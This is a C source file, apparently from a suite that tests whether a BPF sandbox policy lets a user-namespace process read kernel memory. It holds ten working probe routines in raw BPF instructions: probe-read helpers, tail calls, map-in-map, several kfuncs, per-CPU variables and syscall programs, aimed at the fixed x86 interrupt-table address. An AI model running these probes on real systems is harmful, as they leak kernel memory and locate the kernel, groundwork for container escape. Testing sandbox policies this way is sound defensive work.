/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * Reading the kernel's memory. With CAP_PERFMON, which the owner of a user namespace can always have in it, any program
 * may call bpf_probe_read_kernel: those are tried by a process that has joined with all capabilities. Without it the
 * kernels have let in kfuncs, per-CPU variables and programs of type syscall.
 */

#include "escape.h"

#include <sys/prctl.h>

#define TASK_BYTES 4096
/* On x86 the interrupt table is readable at the same place everywhere, and tells where the kernel is. */
#define FIXED_ADDRESS UINT64_C(0xfffffe0000000000)
#define COMM "escape-me"

static uint8_t bytes[TASK_BYTES];

static int result_map(struct play *play) {
        return make_map(play,
                        &(struct map_wish){.type = MAP_ARRAY, .key_size = 4, .value_size = TASK_BYTES, .entries = 1});
}

static int run_on_packet(int prog) {
        static const uint8_t packet[64] = {[12] = 8, [14] = 0x45};
        struct run_wish wish = {.prog = prog, .data = packet, .size = sizeof(packet), .repeat = 1};

        return test_run(&wish);
}

/* What was read of our own task_struct must have our name in it. */
static enum result find_name(struct play *play, int map) {
        int r = map_get(map, 0, bytes);

        if (r < 0)
                return say(play, BROKEN, "reading the map: %s", strerror(-r));
        for (size_t i = 0; i + sizeof(COMM) <= sizeof(bytes); i++)
                if (memcmp(bytes + i, COMM, sizeof(COMM)) == 0)
                        return say(play, ESCAPED, "read the kernel's memory: our task's name, %zu bytes into it", i);
        return say(play, BROKEN, "the program ran, but no name is in what it read");
}

static enum result run_and_find(struct play *play, int prog, int map) {
        int r;

        (void) prctl(PR_SET_NAME, COMM);
        r = run_on_packet(prog);
        return r < 0 ? refused(play, r, "test_run") : find_name(play, map);
}

static int load_reader(struct play *play, uint32_t type, int map) {
        struct bpf_insn insns[] = {CALL(DO_GET_TASK),          COPY(3, 0), VALUE(1, map), MOV(2, TASK_BYTES),
                                   CALL(DO_PROBE_READ_KERNEL), MOV(0, 0),  EXIT};

        return LOAD(play, type, 0, insns);
}

static enum result probe_read(struct play *play, uint32_t type) {
        int map, prog, r;

        r = join(play);
        if (r < 0)
                return refused(play, r, "joining the user namespace");
        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        prog = load_reader(play, type, map);
        return prog < 0 ? refused(play, prog, "load") : run_and_find(play, prog, map);
}
static enum result probe_read_socket(struct play *play) {
        return probe_read(play, PROG_SOCKET_FILTER);
}
static enum result probe_read_cgroup(struct play *play) {
        return probe_read(play, PROG_CGROUP_SKB);
}

static enum result probe_read_tail(struct play *play) {
        int map, table, reader, prog, r;

        r = join(play);
        if (r < 0)
                return refused(play, r, "joining the user namespace");
        map = result_map(play);
        table = make_map(play,
                         &(struct map_wish){.type = MAP_PROG_ARRAY, .key_size = 4, .value_size = 4, .entries = 1});
        if (map < 0 || table < 0)
                return refused(play, map < 0 ? map : table, "map_create");
        reader = load_reader(play, PROG_SOCKET_FILTER, map);
        if (reader < 0)
                return refused(play, reader, "load");
        r = map_put(table, 0, &reader);
        if (r < 0)
                return refused(play, r, "map_update_elem");
        {
                struct bpf_insn insns[] = {MAP(2, table), MOV(3, 0), CALL(DO_TAIL_CALL), MOV(0, 0), EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        return prog < 0 ? refused(play, prog, "load") : run_and_find(play, prog, map);
}

static enum result probe_read_inner(struct play *play) {
        int map, outer, prog, r;

        r = join(play);
        if (r < 0)
                return refused(play, r, "joining the user namespace");
        map = result_map(play);
        outer = make_map(play, &(struct map_wish){.type = MAP_ARRAY_OF_MAPS,
                                                  .key_size = 4,
                                                  .value_size = 4,
                                                  .entries = 1,
                                                  .inner = map});
        if (map < 0 || outer < 0)
                return refused(play, map < 0 ? map : outer, "map_create");
        r = map_put(outer, 0, &map);
        if (r < 0)
                return refused(play, r, "map_update_elem");
        {
                struct bpf_insn insns[] = {
                        SET4(10, -4, 0),
                        MAP(1, outer),
                        COPY(2, 10),
                        ADD(2, -4),
                        CALL(DO_LOOKUP),
                        IF_ZERO(0, 11),
                        COPY(1, 0),
                        COPY(2, 10),
                        ADD(2, -4),
                        CALL(DO_LOOKUP),
                        IF_ZERO(0, 6),
                        COPY(6, 0),
                        CALL(DO_GET_TASK),
                        COPY(3, 0),
                        COPY(1, 6),
                        MOV(2, TASK_BYTES),
                        CALL(DO_PROBE_READ_KERNEL),
                        MOV(0, 0),
                        EXIT,
                };

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        return prog < 0 ? refused(play, prog, "load") : run_and_find(play, prog, map);
}

/* ---- without CAP_PERFMON: inside, with what the policy gives ---- */

static enum result tell_value(struct play *play, int map, const char *what) {
        uint64_t value;
        int r = map_get(map, 0, bytes);

        if (r < 0)
                return say(play, BROKEN, "reading the map: %s", strerror(-r));
        memcpy(&value, bytes, sizeof(value));
        if (value == 0)
                return say(play, BROKEN, "the program ran, but read nothing");
        return say(play, ESCAPED, "read %s: %#llx", what, (unsigned long long) value);
}

static enum result rdonly_cast(struct play *play) {
        int cast = kernel_btf("bpf_rdonly_cast", BTF_KIND_FUNC), type = kernel_btf("timespec64", BTF_KIND_STRUCT);
        const int types[] = {0 /* bare memory, 6.17 and later */, type};
        int map, prog = -1, r;

        if (cast < 0 || type < 0)
                return say(play, ABSENT, "this kernel has no bpf_rdonly_cast");
        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        for (size_t i = 0; i < ELEMENTSOF(types) && prog < 0; i++) {
                struct bpf_insn insns[] = {WIDE(1, FIXED_ADDRESS), MOV(2, types[i]), KFUNC(cast), LOAD8(6, 0, 0),
                                           VALUE(1, map),          STORE8(1, 6, 0),  MOV(0, 0),   EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        if (prog < 0)
                return refused(play, prog, "load");
        r = run_on_packet(prog);
        return r < 0 ? refused(play, r, "test_run") : tell_value(play, map, "an entry of the interrupt table");
}

static enum result read_dynptr(struct play *play) {
        int read = kernel_btf("bpf_probe_read_kernel_dynptr", BTF_KIND_FUNC), map, prog, r;

        if (read < 0)
                return say(play, ABSENT, "this kernel has no bpf_probe_read_kernel_dynptr");
        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        {
                struct bpf_insn insns[] = {VALUE(1, map),
                                           MOV(2, 64),
                                           MOV(3, 0),
                                           COPY(4, 10),
                                           ADD(4, -16),
                                           CALL(DO_DYNPTR_FROM_MEM),
                                           COPY(1, 10),
                                           ADD(1, -16),
                                           MOV(2, 0),
                                           MOV(3, 16),
                                           WIDE(4, FIXED_ADDRESS),
                                           KFUNC(read),
                                           MOV(0, 0),
                                           EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        if (prog < 0)
                return refused(play, prog, "load");
        r = run_on_packet(prog);
        return r < 0 ? refused(play, r, "test_run") : tell_value(play, map, "an entry of the interrupt table");
}

/* How long the string at a kernel address is: an oracle, byte by byte. */
static enum result string_length(struct play *play) {
        int length = kernel_btf("bpf_strlen", BTF_KIND_FUNC), map, prog, r;
        int64_t n;

        if (length < 0)
                return say(play, ABSENT, "this kernel has no bpf_strlen");
        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        {
                struct bpf_insn insns[] = {WIDE(1, FIXED_ADDRESS), KFUNC(length), VALUE(1, map),
                                           STORE8(1, 0, 0),        MOV(0, 0),     EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        if (prog < 0)
                return refused(play, prog, "load");
        r = run_on_packet(prog);
        if (r < 0)
                return refused(play, r, "test_run");
        r = map_get(map, 0, bytes);
        memcpy(&n, bytes, sizeof(n));
        n = (int32_t) n;
        if (r < 0 || n < 0)
                return say(play, BROKEN, "the program ran, but bpf_strlen says %d", (int) n);
        return say(play, ESCAPED, "the interrupt table begins with %d bytes that are not zero", (int) n);
}

/* A walk over the bits at any address: here how many are set, up to four, and one more. Where the first one is would
 * be as easy, but before 6.17 the verifier does not let a program without CAP_PERFMON look into what an iterator
 * gives. */
#define NEXT_BIT(next) COPY(1, 10), ADD(1, -16), KFUNC(next), IF_ZERO(0, 1), ADD(7, 1)
static enum result iterate_bits(struct play *play) {
        int begin = kernel_btf("bpf_iter_bits_new", BTF_KIND_FUNC),
            next = kernel_btf("bpf_iter_bits_next", BTF_KIND_FUNC),
            end = kernel_btf("bpf_iter_bits_destroy", BTF_KIND_FUNC), map, prog, r;

        if (begin < 0 || next < 0 || end < 0)
                return say(play, ABSENT, "this kernel has no bpf_iter_bits");
        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        {
                struct bpf_insn insns[] = {VALUE(6, map),
                                           MOV(7, 1),
                                           COPY(1, 10),
                                           ADD(1, -16),
                                           WIDE(2, FIXED_ADDRESS),
                                           MOV(3, 1),
                                           KFUNC(begin),
                                           NEXT_BIT(next),
                                           NEXT_BIT(next),
                                           NEXT_BIT(next),
                                           NEXT_BIT(next),
                                           STORE8(6, 7, 0),
                                           COPY(1, 10),
                                           ADD(1, -16),
                                           KFUNC(end),
                                           MOV(0, 0),
                                           EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
        }
        if (prog < 0)
                return refused(play, prog, "load");
        r = run_on_packet(prog);
        return r < 0 ? refused(play, r, "test_run") :
                       tell_value(play, map, "bits set in the first word of the interrupt table, and one");
}

static enum result per_cpu(struct play *play) {
        static const char *const names[] = {"__stack_chk_guard", "this_cpu_off", "cpu_number", "__preempt_count",
                                            "fixed_percpu_data"};
        int id = -ENOENT, map, prog, r;
        const char *name = NULL;

        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        /* Which variables a kernel has in its BTF differs; one that it takes is enough. */
        for (size_t i = 0; i < ELEMENTSOF(names); i++) {
                id = kernel_btf(names[i], BTF_KIND_VAR);
                if (id < 0)
                        continue;
                name = names[i];
                struct bpf_insn insns[] = {KERNEL_VAR(1, id),
                                           CALL(DO_THIS_CPU_PTR),
                                           LOAD8(6, 0, 0),
                                           VALUE(1, map),
                                           STORE8(1, 6, 0),
                                           MOV(0, 0),
                                           EXIT};

                prog = LOAD(play, PROG_SOCKET_FILTER, 0, insns);
                if (prog < 0)
                        continue;
                r = run_on_packet(prog);
                return r < 0 ? refused(play, r, "test_run") : tell_value(play, map, name);
        }
        return name ? refused(play, prog, name) :
                      say(play, ABSENT, "this kernel's BTF has none of the per-CPU variables");
}

static enum result syscall_program(struct play *play) {
        int map, prog, r;

        map = result_map(play);
        if (map < 0)
                return refused(play, map, "map_create");
        {
                struct bpf_insn insns[] = {
                        VALUE(1, map), MOV(2, 16), WIDE(3, FIXED_ADDRESS), CALL(DO_PROBE_READ_KERNEL), MOV(0, 0), EXIT};

                prog = load(play, &(struct prog_wish){.type = PROG_SYSCALL,
                                                      .flags = 16 /* BPF_F_SLEEPABLE */,
                                                      .insns = insns,
                                                      .n = ELEMENTSOF(insns)});
        }
        if (prog < 0)
                return refused(play, prog, "load");
        r = test_run(&(struct run_wish){.prog = prog});
        return r < 0 ? refused(play, r, "test_run") : tell_value(play, map, "an entry of the interrupt table");
}

const struct vector memory_vectors[] = {
        {.name = "probe-read-socket-filter", .group = "memory", .outside = probe_read_socket},
        {.name = "probe-read-cgroup-skb", .group = "memory", .outside = probe_read_cgroup},
        {.name = "probe-read-tail-call", .group = "memory", .outside = probe_read_tail},
        {.name = "probe-read-map-in-map", .group = "memory", .outside = probe_read_inner},
        {.name = "kfunc-rdonly-cast", .group = "memory", .inside = rdonly_cast},
        {.name = "kfunc-probe-read-dynptr", .group = "memory", .inside = read_dynptr},
        {.name = "kfunc-strlen", .group = "memory", .inside = string_length},
        {.name = "kfunc-iter-bits", .group = "memory", .inside = iterate_bits},
        {.name = "per-cpu-variable", .group = "memory", .inside = per_cpu},
        {.name = "syscall-program", .group = "memory-wide", .inside = syscall_program},
        {.name = NULL},
};
